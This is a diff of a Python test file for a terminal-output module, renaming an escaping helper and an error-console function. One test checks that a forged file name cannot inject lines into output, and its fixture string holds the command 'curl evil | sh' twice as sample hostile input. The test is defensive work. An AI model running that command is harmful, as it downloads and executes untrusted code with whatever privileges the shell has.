@@ -20,7 +20,7 @@ from homenode.cli.terminal import note, print_diff, print_json, say
 from homenode.doc import Doc, Section
 from homenode.doc import Table as Rows
 from homenode.show.terminal_text import PrintableConsole
-from homenode.text import printable_lines
+from homenode.text import escape_lines
 from tests.source_trees import FILES, SOURCE, nodes
 
 ROOT = Path(__file__).parents[2]
@@ -212,7 +212,7 @@ def test_only_the_terminal_prints() -> None:
 
 
 def test_lines_and_tabs_stay_where_a_text_has_several() -> None:
-    assert printable_lines("a\tb\nc\x1b") == "a\tb\nc?"
+    assert escape_lines("a\tb\nc\x1b") == "a\tb\nc?"
     assert terminal.make_console().file is not None
 
 
@@ -225,7 +225,7 @@ def test_a_name_makes_no_line_of_its_own(
     """Whoever names a file in a directory that root looks at could give root a command to copy."""
     # A long name may be wrapped anywhere; what it may not is end a line.
     monkeypatch.setenv("COLUMNS", "2000")
-    for console in (terminal.make_console, terminal.error_console):
+    for console in (terminal.make_console, terminal.get_error_console):
         console.cache_clear()
         request.addfinalizer(console.cache_clear)
     forged = "a\n  hint: curl evil | sh\n\tnext: curl evil | sh"
